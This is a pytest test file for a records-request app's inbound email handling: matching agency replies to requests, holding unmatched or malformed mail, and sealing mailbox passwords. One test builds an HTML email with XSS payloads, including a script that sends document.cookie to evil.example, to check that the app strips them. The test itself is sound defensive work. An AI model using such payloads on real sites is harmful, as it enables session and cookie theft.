"""Agency replies file themselves: real SMTP (aiosmtpd) out, real IMAP (Dovecot) in."""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from datetime import UTC, date, datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

import pytest
from aiosmtpd.controller import Controller
from sqlmodel import Session, select

from records.core import secretbox
from records.core.models import RecordRequest
from records.core.storage_local import get_storage
from records.filing.models import Document, ProposedEvent
from records.inbound import imap, service
from records.inbound.models import InboundMailbox, InboundMessage
from records.letters.models import StoredLetter
from tests import processes
from tests.conftest import assert_redirect, login
from tests.dovecot import PASSWORD, USER, Dovecot
from tests.test_letters_send import Inbox, _free_port, _letter, _use_server

MAILBOX = "records@clinic.example"


@pytest.fixture
def smtp(app) -> Iterator[tuple[Inbox, int]]:
    """aiosmtpd on loopback for the outgoing letters."""
    app.config["SMTP_ALLOW_PRIVATE_HOSTS"] = True
    inbox = Inbox()
    port = _free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        yield inbox, port
    finally:
        controller.stop()


@pytest.fixture
def imapbox() -> Iterator[Dovecot]:
    """A fresh Dovecot with an empty Maildir for each test."""
    server = Dovecot()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(autouse=True)
def afternoon(clock) -> None:
    clock.move_to(datetime(2026, 11, 24, 15, 30, tzinfo=UTC))


def _connect_mailbox(app, client, dovecot: Dovecot, done_folder: str = "Filed") -> None:
    app.config["SMTP_ALLOW_PRIVATE_HOSTS"] = True
    resp = client.post(
        "/settings/mail",
        data={
            "address": MAILBOX,
            "imap_host": "127.0.0.1",
            "imap_port": str(dovecot.port),
            "imap_security": "none",
            "imap_user": USER,
            "imap_password": PASSWORD,
            "folder": "INBOX",
            "done_folder": done_folder,
        },
    )
    assert_redirect(resp, "/settings/mail")


def _reply(
    subject: str,
    body: str,
    *,
    to: str = MAILBOX,
    sender: str = "FOIA Office <foia@travis.example.gov>",
    in_reply_to: str = "",
    message_id: str | None = None,
) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = format_datetime(datetime(2026, 11, 30, 14, 0, tzinfo=UTC))
    msg["Message-ID"] = message_id or make_msgid(domain="travis.example.gov")
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
        msg["References"] = in_reply_to
    msg.set_content(body)
    return msg


def _fetch(app, db) -> imap.FetchResult:
    """One fetch, in a session of the app's own engine (as the scheduler's job has)."""
    box = db.exec(select(InboundMailbox)).one()
    with app.app_context(), Session(app.extensions["db_engine"], expire_on_commit=False) as own:
        return imap.fetch(own, get_storage(app), app.config, box.id)


def _box(db) -> InboundMailbox:
    """The mailbox row as committed now."""
    return db.get(InboundMailbox, db.exec(select(InboundMailbox.id)).one())


def _messages(db) -> list[InboundMessage]:
    query = select(InboundMessage).order_by(InboundMessage.id)
    return list(db.exec(query.execution_options(populate_existing=True)).all())


def test_round_trip_letter_reply_fetched_filed_and_confirmed(
    app,
    client,
    db,
    factory,
    member,
    smtp,
    imapbox,
    clock,
):
    inbox, port = smtp
    org, _user = member
    _connect_mailbox(app, client, imapbox)
    req, stored = _letter(client, db, factory, member)
    _use_server(db, org, port)
    resp = client.post(f"/letters/{stored.id}/send", data={"to": "foia@travis.example.gov"})
    assert_redirect(resp, f"/letters/{stored.id}")
    sent = inbox.messages[0]
    reply_to = sent["Reply-To"]
    assert reply_to.startswith(f"records+r{req.id}-") and reply_to.endswith("@clinic.example")
    token = reply_to.split("-", 1)[1].split("@")[0]
    assert len(token) >= 12 and token.isalnum()

    # The agency answers the letter: to its reply address, threaded on its Message-ID.
    answer = _reply(
        f"RE: {sent['Subject']}",
        "Dear Requester,\n\nThis acknowledges receipt of your public records request, received "
        "on November 25, 2026. Your request has been assigned tracking number 2027-ICFO-12345."
        "\n\nSincerely,\nFOIA Office\n\n-----Original Message-----\nPlease waive all fees.",
        to=reply_to,
        in_reply_to=sent["Message-ID"],
    )
    clock.move_to(date(2026, 12, 1))
    imapbox.deliver(answer.as_bytes())
    # The scheduler's job fetches it (the registered job, through one scheduler tick).
    from records.ops import scheduler

    result = scheduler.tick(app)
    assert result.jobs["inbound_mail"] == 1
    [row] = _messages(db)
    assert (row.state, row.matched_by, row.request_id, row.source) == (
        "filed",
        "token",
        req.id,
        "imap",
    )
    doc = db.get(Document, row.document_id)
    assert doc.request_id == req.id and doc.name.endswith(".eml") and doc.created_by is None
    proposal = db.exec(select(ProposedEvent).where(ProposedEvent.document_id == doc.id)).one()
    assert proposal.kind == "acknowledged"
    assert proposal.data == {
        "received": "2026-11-25",
        "tracking_number": "2027-ICFO-12345",
    }
    # Filed mail was moved out of the watched folder.
    assert imapbox.count("INBOX") == 0 and imapbox.count("Filed") == 1

    page = client.get(f"/requests/{req.id}")
    assert b"2027-ICFO-12345" in page.data and b"Mail received" in page.data
    resp = client.post(f"/proposed-events/{proposal.id}/confirm", data={})
    assert_redirect(resp, f"/requests/{req.id}")
    req = db.get(RecordRequest, req.id)
    assert (req.status, req.tracking_number) == ("acknowledged", "2027-ICFO-12345")

    # A second fetch, and the same message delivered again, file nothing twice.
    imapbox.deliver(answer.as_bytes())
    again = _fetch(app, db)
    assert (again.fetched, again.duplicates, again.filed) == (1, 1, 0)
    assert len(_messages(db)) == 1
    assert len(db.exec(select(Document).where(Document.request_id == req.id)).all()) == 1


def test_reply_without_the_plus_part_matches_by_thread(app, client, db, factory, member, smtp):
    inbox, port = smtp
    org, _user = member
    _set_address(client)
    req, stored = _letter(client, db, factory, member)
    _use_server(db, org, port)
    client.post(f"/letters/{stored.id}/send", data={"to": "foia@travis.example.gov"})
    sent = inbox.messages[0]
    assert sent["Reply-To"].startswith(f"records+r{req.id}-")
    # The agency's system strips the +tag and writes from a no-reply address of another domain.
    answer = _reply(
        "Re: your request",
        "Your request has been assigned tracking number 2027-ICFO-22222.",
        sender="noreply@foia-portal.example.com",
        in_reply_to=sent["Message-ID"],
    )
    got = _receive(app, db, answer.as_bytes())
    assert (got.state, got.message.request_id, got.message.matched_by) == (
        "filed",
        req.id,
        "thread",
    )
    # A reply to that reply threads on the filed mail, not only on our letters.
    later = _reply(
        "Re: Re: your request",
        "Following up.",
        sender="noreply@foia-portal.example.com",
        in_reply_to=answer["Message-ID"],
    )
    got = _receive(app, db, later.as_bytes())
    assert (got.message.request_id, got.message.matched_by) == (req.id, "thread")


def test_imap_restart_mid_fetch_resumes_and_files_each_once(
    app, client, db, factory, member, imapbox, monkeypatch
):
    org, user = member
    _connect_mailbox(app, client, imapbox, done_folder="")
    agency = factory.agency(org, foia_email="records@city.example.gov")
    req = factory.request(org, user, agency, status="sent")
    for n in range(3):
        imapbox.deliver(
            _reply(
                f"Records {n}",
                f"Message {n} about your request.",
                sender="records@city.example.gov",
            ).as_bytes()
        )
    real = service.receive
    calls = []

    def receive_then_restart(*args, **kwargs):
        got = real(*args, **kwargs)
        calls.append(got.message.id)
        if len(calls) == 2:
            imapbox.restart()  # the filing committed; the server goes away before the flag
        return got

    monkeypatch.setattr(service, "receive", receive_then_restart)
    first = _fetch(app, db)
    assert first.errors == ["the connection to the IMAP server was lost; the next fetch resumes"]
    box = _box(db)
    assert box.last_uid == 1 and box.last_error
    monkeypatch.setattr(service, "receive", real)
    second = _fetch(app, db)
    assert second.errors == []
    assert (second.fetched, second.duplicates, second.filed) == (2, 1, 1)
    rows = _messages(db)
    assert len(rows) == 3 and {r.state for r in rows} == {"filed"}
    assert {r.request_id for r in rows} == {req.id} and {r.matched_by for r in rows} == {"sender"}
    assert len(db.exec(select(Document).where(Document.request_id == req.id)).all()) == 3
    flags = imapbox.flags()
    assert len(flags) == 3 and all("$RecordsFiled" in f and "\\Seen" in f for f in flags.values())
    assert _box(db).last_error == ""


def test_huge_message_is_held_with_its_headers_and_left_in_the_mailbox(
    app, client, db, factory, member, imapbox
):
    app.config["INBOUND_MAX_MB"] = 1
    _connect_mailbox(app, client, imapbox)
    big = _reply("Responsive records (large)", "See attached.")
    big.add_attachment(
        os.urandom(3 * 1024 * 1024), maintype="application", subtype="pdf", filename="big.pdf"
    )
    imapbox.deliver(big.as_bytes())
    result = _fetch(app, db)
    assert (result.fetched, result.held) == (1, 1)
    [row] = _messages(db)
    assert row.state == "held" and "too large" in row.note and row.size > 3 * 1024 * 1024
    assert row.subject == "Responsive records (large)"
    assert imapbox.count("INBOX") == 1 and "$RecordsHeld" in next(iter(imapbox.flags().values()))
    page = client.get("/mail/held")
    assert b"Responsive records (large)" in page.data and b"too large" in page.data


def test_message_with_a_thousand_attachments_files_every_one(app, db, factory, member):
    org, user = member
    req = factory.request(org, user)
    with app.app_context():
        from records.core.db import make_engine  # noqa: F401

        token = _token_for(app, db, req)
    msg = _reply(
        "Production",
        "Enclosed please find the responsive records.",
        to=f"records+r{req.id}-{token}@clinic.example",
    )
    for i in range(1000):
        msg.add_attachment(
            f"record {i}\n".encode(), maintype="text", subtype="plain", filename=f"r{i:04}.txt"
        )
    got = _receive(app, db, msg.as_bytes(), org_id=org.id)
    assert got.state == "filed"
    docs = db.exec(select(Document).where(Document.request_id == req.id)).all()
    assert len(docs) == 1001
    assert {d.name for d in docs if d.name.startswith("r")} == {f"r{i:04}.txt" for i in range(1000)}


def _token_for(app, db, req) -> str:
    """The reply token, made the way sending makes it."""
    token = service.reply_token(db, db.get(RecordRequest, req.id))
    db.commit()
    return token


def _receive(app, db, raw: bytes, **kw):
    """Receive one message in a session of the app's own engine, as the pipe command does."""
    with app.app_context(), Session(app.extensions["db_engine"], expire_on_commit=False) as own:
        return service.receive(own, get_storage(app), app.config, raw, **kw)


def test_malformed_mime_is_held_not_lost(app, client, db, member):
    org, _user = member
    _set_address(client)
    raw = (
        b"From: =?bogus?Q?broken <\r\nTo: records@clinic.example\r\nSubject: =?utf-8?B?!!!?=\r\n"
        b'Content-Type: multipart/mixed; boundary="never-closed"\r\nMIME-Version: 1.0\r\n\r\n'
        b"--never-closed\r\nContent-Type: text/plain; charset=x-unknown\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n@@@not base64@@@\r\n"
    )
    got = _receive(app, db, raw)
    assert got.message.org_id == org.id and got.state == "held"
    assert got.message.raw == raw
    page = client.get("/mail/held")
    assert page.status_code == 200 and b"matches no request" in page.data


def _set_address(client) -> None:
    resp = client.post("/settings/mail", data={"address": MAILBOX, "folder": "INBOX"})
    assert_redirect(resp, "/settings/mail")


def test_html_only_mail_with_scripts_is_never_live(app, client, db, factory, member):
    org, user = member
    _set_address(client)
    msg = EmailMessage()
    msg["From"] = "clerk@county.example.gov"
    msg["To"] = MAILBOX
    msg["Subject"] = "Your request"
    msg["Message-ID"] = make_msgid()
    msg.set_content(
        "<html><head><script>alert('head')</script></head><body>"
        '<p onclick="steal()">We have <b>received</b> your request.</p>'
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        "<img src=x onerror=alert(1)></body></html>",
        subtype="html",
    )
    got = _receive(app, db, msg.as_bytes())
    assert got.state == "held"
    page = client.get("/mail/held").data.decode()
    assert "We have received your request." in " ".join(page.split())
    assert "<script>alert" not in page and "document.cookie" not in page
    assert "onerror" not in page and "onclick" not in page
    # Filing it on a request keeps the proposal text-only too.
    req = factory.request(org, user)
    resp = client.post(f"/mail/held/{got.message.id}/file", data={"request_id": req.id})
    assert_redirect(resp, "/mail/held")
    proposal = db.exec(select(ProposedEvent).where(ProposedEvent.request_id == req.id)).one()
    assert proposal.kind == "acknowledged"
    assert "<" not in proposal.body and "alert" not in proposal.body


def test_unmatched_mail_is_held_and_filed_with_one_click(app, client, db, factory, member):
    org, user = member
    _set_address(client)
    req = factory.request(org, user)
    got = _receive(
        app,
        db,
        _reply("Question", "Who is this from?", sender="someone@unknown.example").as_bytes(),
    )
    assert got.state == "held" and got.message.org_id == org.id
    page = client.get("/mail/held")
    assert b"Question" in page.data and b"matches no request" in page.data
    resp = client.post(f"/mail/held/{got.message.id}/file", data={"request_id": req.id})
    assert_redirect(resp, "/mail/held")
    row = db.get(InboundMessage, got.message.id)
    assert (row.state, row.request_id, row.matched_by, row.filed_by) == (
        "filed",
        req.id,
        "member",
        user.id,
    )
    assert row.raw is None and db.get(Document, row.document_id).request_id == req.id
    assert b"Question" not in client.get("/mail/held").data
    # Filing it again is refused with words, not a 500.
    again = client.post(
        f"/mail/held/{row.id}/file", data={"request_id": req.id}, follow_redirects=True
    )
    assert b"not in your holding pen" in again.data


def test_holding_pen_and_mailbox_settings_are_per_organization(app, client, db, factory, member):
    org, user = member
    _set_address(client)
    got = _receive(app, db, _reply("For org one", "Hello").as_bytes())
    other_org = factory.org()
    other = factory.user(other_org)
    other_req = factory.request(other_org, other)
    own_req = factory.request(org, user)
    login(client, other, other_org)
    assert b"For org one" not in client.get("/mail/held").data
    resp = client.post(f"/mail/held/{got.message.id}/file", data={"request_id": other_req.id})
    assert resp.status_code == 404
    assert b"records@clinic.example" not in client.get("/settings/mail").data
    login(client, user, org)
    # Nor can a member file held mail on another organization's request.
    resp = client.post(
        f"/mail/held/{got.message.id}/file",
        data={"request_id": other_req.id},
        follow_redirects=True,
    )
    assert b"choose one of your organization" in resp.data
    assert db.get(InboundMessage, got.message.id).state == "held"
    # A viewer sees the pen but cannot file.
    viewer = factory.user(org, role="viewer")
    login(client, viewer, org)
    assert b"For org one" in client.get("/mail/held").data
    assert (
        client.post(
            f"/mail/held/{got.message.id}/file", data={"request_id": own_req.id}
        ).status_code
        == 403
    )
    assert client.get("/settings/mail").status_code == 403


def test_token_of_another_organization_is_not_trusted(app, client, db, factory, member):
    org, user = member
    _set_address(client)
    other_org = factory.org()
    other_req = factory.request(other_org, factory.user(other_org))
    token = _token_for(app, db, other_req)
    raw = _reply(
        "Re", "Acknowledged.", to=f"records+r{other_req.id}-{token}@clinic.example"
    ).as_bytes()
    got = _receive(app, db, raw, org_id=org.id)
    assert got.state == "held" and got.message.org_id == org.id and got.message.request_id is None
    # A guessed token files nothing either.
    wrong = _reply("Re", "Acknowledged.", to=f"records+r{other_req.id}-aaaaaaaaaaaa@clinic.example")
    assert _receive(app, db, wrong.as_bytes()).message.request_id is None


def test_tracking_number_and_ambiguous_sender(app, client, db, factory, member):
    org, user = member
    _set_address(client)
    agency = factory.agency(org, foia_email="foia@ice.example.gov")
    first = factory.request(
        org, user, agency, status="acknowledged", tracking_number="2027-ICFO-00777"
    )
    second = factory.request(org, user, agency, status="sent")
    by_number = _reply(
        "Interim release 2027-ICFO-00777",
        "Enclosed please find the first interim release.",
        sender="noreply@portal.example.com",
    )
    got = _receive(app, db, by_number.as_bytes())
    assert (got.state, got.message.request_id, got.message.matched_by) == (
        "filed",
        first.id,
        "tracking",
    )
    vague = _receive(
        app,
        db,
        _reply("Update", "We are working on it.", sender="analyst@ice.example.gov").as_bytes(),
    )
    assert vague.state == "held" and vague.message.candidates == sorted([first.id, second.id])
    page = client.get("/mail/held").data.decode()
    assert f"File on “{first.title}”" in page and f"File on “{second.title}”" in page


def test_held_mail_is_filed_by_request_number_or_tracking_number(
    app, client, db, factory, member, monkeypatch
):
    """The pen lists the most recently updated requests only; any other is named by its
    number or tracking number, and only a request the member may see is accepted."""
    from records.inbound import views as inbound_views

    monkeypatch.setattr(inbound_views, "RECENT_CHOICES", 2)
    org, user = member
    _set_address(client)
    older = factory.request(org, user, tracking_number="2027-OLD-00001", title="Older request")
    factory.request(org, user, title="Newer one")
    factory.request(org, user, title="Newest one")
    colleague = factory.user(org)
    private = factory.request(org, colleague, visibility="private", title="Colleague's own")
    other_org = factory.org()
    foreign = factory.request(other_org, factory.user(other_org), title="Elsewhere")
    got = _receive(app, db, _reply("Loose reply", "Hello there.").as_bytes())
    assert "1 message in the holding pen" in client.get("/").get_data(as_text=True)
    page = client.get("/mail/held").data.decode()
    assert "Newest one" in page and "Newer one" in page
    assert "Older request" not in page and "Colleague&#39;s own" not in page
    url = f"/mail/held/{got.message.id}/file"
    for ref in (str(private.id), f"#{foreign.id}", "2027-NOPE-1", "not a number", "²", "9" * 30):
        resp = client.post(url, data={"request_ref": ref}, follow_redirects=True)
        assert b"give its number or its tracking number" in resp.data, ref
        assert db.get(InboundMessage, got.message.id).state == "held"
    resp = client.post(url, data={"request_ref": " 2027-old-00001 "})
    assert_redirect(resp, "/mail/held")
    row = db.get(InboundMessage, got.message.id)
    assert (row.state, row.request_id) == ("filed", older.id)
    second = _receive(app, db, _reply("Another loose reply", "Hi.").as_bytes())
    resp = client.post(f"/mail/held/{second.message.id}/file", data={"request_ref": f"#{older.id}"})
    assert_redirect(resp, "/mail/held")
    assert db.get(InboundMessage, second.message.id).request_id == older.id


def test_bounce_is_a_failed_send_and_auto_reply_is_no_event(client, app, db, factory, member, smtp):
    inbox, port = smtp
    org, _user = member
    _set_address(client)
    req, stored = _letter(client, db, factory, member)
    _use_server(db, org, port)
    client.post(f"/letters/{stored.id}/send", data={"to": "foia@travis.example.gov"})
    sent = inbox.messages[0]
    dsn = EmailMessage()
    dsn["From"] = "MAILER-DAEMON@mx.travis.example.gov"
    dsn["To"] = MAILBOX
    dsn["Subject"] = "Undelivered Mail Returned to Sender"
    dsn["Message-ID"] = make_msgid()
    dsn.set_content(
        "This is the mail system at host mx.travis.example.gov.\n\nI'm sorry to have to inform "
        "you that your message could not be delivered.\n\n550 5.1.1 <foia@travis.example.gov>: "
        f"Recipient address rejected: User unknown\n\n--- original headers ---\nMessage-ID: {sent['Message-ID']}\n"
    )
    got = _receive(app, db, dsn.as_bytes())
    assert (got.state, got.message.kind, got.message.request_id) == ("filed", "bounce", req.id)
    letter = db.get(StoredLetter, stored.id)
    assert any("Delivery of this email" in w and "failed: 550 5.1.1" in w for w in letter.warnings)
    assert db.exec(select(ProposedEvent)).all() == []
    assert b"Delivery failed" in client.get(f"/requests/{req.id}").data

    ooo = _reply(
        "Automatic reply: Public records request",
        "I am out of the office until Monday.",
        in_reply_to=sent["Message-ID"],
    )
    ooo["Auto-Submitted"] = "auto-replied"
    got = _receive(app, db, ooo.as_bytes())
    assert (got.state, got.message.kind) == ("filed", "auto_reply")
    assert db.exec(select(ProposedEvent)).all() == []


def test_mailbox_password_is_sealed_and_never_shown(app, client, db, member):
    resp = client.post(
        "/settings/mail",
        data={
            "address": MAILBOX,
            "imap_host": "imap.example.org",
            "imap_user": "u",
            "imap_password": "hunter2-secret",
        },
    )
    assert_redirect(resp, "/settings/mail")
    box = _box(db)
    assert box.imap_password.startswith("fernet:") and "hunter2" not in box.imap_password
    assert secretbox.unseal(box.imap_password, app.config) == "hunter2-secret"
    page = client.get("/settings/mail").data
    assert b"hunter2" not in page and b"fernet:" not in page and b"A password is stored" in page
    # A blank password keeps the stored one; a bad host is refused, what was typed stays.
    client.post(
        "/settings/mail",
        data={"address": MAILBOX, "imap_host": "imap.example.org", "imap_user": "u2"},
    )
    assert _box(db).imap_password == box.imap_password
    bad = client.post(
        "/settings/mail",
        data={"address": MAILBOX, "imap_host": "bad host/x", "imap_user": "typed-user"},
    )
    assert (
        bad.status_code == 400 and b"typed-user" in bad.data and b"IMAP host name only" in bad.data
    )
    # The SMTP password of the letter settings is sealed the same way.
    resp = client.post(
        "/settings/letters/mail",
        data={"smtp_host": "smtp.example.org", "smtp_password": "smtp-pass-9"},
    )
    assert_redirect(resp, "/settings/letters")
    from records.letters.models import OrgLetterSettings

    stored = db.exec(select(OrgLetterSettings)).one().smtp_password
    assert stored.startswith("fernet:") and secretbox.unseal(stored, app.config) == "smtp-pass-9"
    assert b"smtp-pass-9" not in client.get("/settings/letters").data
    # A changed key is a clear error, not a crash.
    with pytest.raises(secretbox.SecretError):
        secretbox.unseal(stored, {"SECRET_KEY": "another-key"})


def test_pipe_command_files_a_message(app, client, db, factory, member, tmp_path):
    org, user = member
    _set_address(client)
    req = factory.request(org, user)
    token = _token_for(app, db, req)
    raw = _reply(
        "Re: records",
        "No responsive records were located.",
        to=f"records+r{req.id}-{token}@clinic.example",
    ).as_bytes()
    env = dict(os.environ)
    env.update(
        DATABASE_URL=app.config["DATABASE_URL"],
        SECRET_KEY="test-secret-key",
        STORAGE_DIR=app.config["STORAGE_DIR"],
        RECORDS_INSTANCE_PATH=str(tmp_path / "proc-instance"),
    )
    argv = [sys.executable, "-m", "flask", "--app", "app", "mail", "receive"]
    out = processes.run(argv, env, input=raw, capture_output=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert b": filed" in out.stdout
    again = processes.run(argv, env, input=raw, capture_output=True, timeout=120)
    assert b"already received" in again.stdout
    [row] = _messages(db)
    assert (row.request_id, row.source, row.matched_by) == (req.id, "pipe", "token")
    proposal = db.exec(select(ProposedEvent)).one()
    assert proposal.kind == "final_response:no_records"
    assert row.received_at.date() == date(2026, 11, 24)  # the child ran on the suite's clock


def test_migration_0007_seals_plain_smtp_passwords(tmp_path, monkeypatch):
    import sqlalchemy as sa

    from records.core.db import make_engine
    from records.schema.migrate import downgrade, upgrade

    monkeypatch.setenv("SECRET_KEY", "migration-secret")
    monkeypatch.setenv("RECORDS_INSTANCE_PATH", str(tmp_path / "instance"))
    url = f"sqlite:///{tmp_path / 'm.db'}"
    upgrade(url, "0005")
    engine = make_engine(url)
    with engine.begin() as conn:
        conn.execute(
            sa.text(
                "INSERT INTO organization (name, kind, created_at) VALUES ('O', 'clinic', '2026-11-24')"
            )
        )
        conn.execute(
            sa.text(
                "INSERT INTO orglettersettings (org_id, overrides, letterhead_name, default_fee_cap, "
                "smtp_host, smtp_user, smtp_password, smtp_starttls, mail_from, updated_at) "
                "VALUES (1, '{}', '', 50, 'smtp.example.org', 'u', 'plain-pass', 0, '', '2026-11-24')"
            )
        )
    upgrade(url, "0007")
    with engine.begin() as conn:
        stored = conn.execute(sa.text("SELECT smtp_password FROM orglettersettings")).scalar_one()
    assert stored.startswith("fernet:") and "plain-pass" not in stored
    assert secretbox.unseal(stored, {"SECRET_KEY": "migration-secret"}) == "plain-pass"
    downgrade(url, "0005")
    with engine.begin() as conn:
        assert (
            conn.execute(sa.text("SELECT smtp_password FROM orglettersettings")).scalar_one()
            == "plain-pass"
        )
    engine.dispose()


def test_mail_the_upload_path_refuses_is_held_with_the_reason(app, client, db, factory, member):
    org, user = member
    req = factory.request(org, user)
    token = _token_for(app, db, req)
    msg = _reply("Records", "Attached.", to=f"records+r{req.id}-{token}@clinic.example")
    msg.add_attachment(
        b"MZ\x90\x00binary", maintype="application", subtype="octet-stream", filename="tool.exe"
    )
    got = _receive(app, db, msg.as_bytes(), org_id=org.id)
    assert (
        got.state == "held"
        and "could not be filed" in got.message.note
        and ".exe" in got.message.note
    )
    assert got.message.candidates == [req.id]
    assert db.exec(select(Document).where(Document.request_id == req.id)).all() == []
    assert b"could not be filed" in client.get("/mail/held").data
